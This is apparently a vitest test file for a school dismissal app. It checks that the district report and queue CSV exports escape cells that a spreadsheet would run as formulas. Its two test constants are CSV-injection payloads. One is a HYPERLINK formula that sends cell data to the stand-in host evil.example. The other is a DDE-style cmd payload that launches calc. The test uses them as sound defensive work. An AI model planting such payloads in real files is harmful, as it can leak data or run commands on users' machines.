import { districtReportCsvRows, overviewCsvRows } from '@curbside/domain';
import { toCsv } from '@curbside/domain/csv';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sessionBody } from '../support/fixtures';
import { type Client, signedIn, startTestServer } from '../support/server';

/**
 * The CSV files the app writes (the district report, the queue export) from
 * what the API answers: a cell a school's staff typed that a spreadsheet would
 * run as a formula goes out with a leading `'`, even when it holds a line break.
 */
const SESSION_NAME = '=HYPERLINK(\n"https://evil.example/?"&A1,"Open")';
const FAMILY_NAME = "-2+3\n+cmd|' /C calc'!A0";

let server: Awaited<ReturnType<typeof startTestServer>>;
let admin: Client;
let front: Client;
let districtAdmin: Client;
/** Today's dismissal at the demo school, named like a formula. */
let sessionId: number;

beforeAll(async () => {
  server = await startTestServer();
  [admin, front, districtAdmin] = await Promise.all([
    signedIn(server.url, 'admin_demo'),
    signedIn(server.url, 'front_demo'),
    signedIn(server.url, 'district_demo'),
  ]);
  const session = await front.post('/api/sessions', { ...sessionBody(), name: SESSION_NAME });
  expect(session.status).toBe(201);
  sessionId = session.body.id;
});
afterAll(async () => {
  await server?.close();
});

/** A cell as the file holds it: quoted, its quotes doubled. */
const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;

describe('CSV exports', () => {
  it('the district report escapes a session name that starts a formula on a line of its own', async () => {
    const report = await districtAdmin.get('/api/districts/1/report');
    expect(report.status).toBe(200);
    const file = toCsv(districtReportCsvRows(report.body));
    expect(file).toContain(`,${quoted(`'${SESSION_NAME}`)},`);
    expect(file).not.toContain(quoted(SESSION_NAME));
  });

  it('the queue export escapes a family name that starts a formula on a line of its own', async () => {
    const vehicle = await admin.post('/api/vehicles', {
      number: '777',
      type: 'car',
      parentName: FAMILY_NAME,
    });
    expect(vehicle.status).toBe(201);
    expect((await front.post('/api/queue', { sessionId, vehicleNumber: '777' })).status).toBe(201);
    const queue = await admin.get(`/api/queue?sessionId=${sessionId}`);
    expect(queue.status).toBe(200);
    const file = toCsv(overviewCsvRows(queue.body));
    expect(file).toContain(`,${quoted(`'${FAMILY_NAME}`)},`);
    expect(file).not.toContain(quoted(FAMILY_NAME));
  });
});
